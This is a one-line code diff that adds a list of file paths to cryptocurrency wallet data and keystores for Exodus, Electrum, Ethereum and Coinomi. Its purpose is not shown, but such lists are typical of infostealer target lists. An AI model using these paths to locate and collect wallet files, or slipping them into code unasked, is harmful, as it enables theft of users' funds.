@@ -1,0 +1,1 @@
+W = ["\\Exodus\\exodus.wallet", "\\Electrum\\wallets", "\\Ethereum\\keystore", "\\Coinomi\\Coinomi\\wallets"]
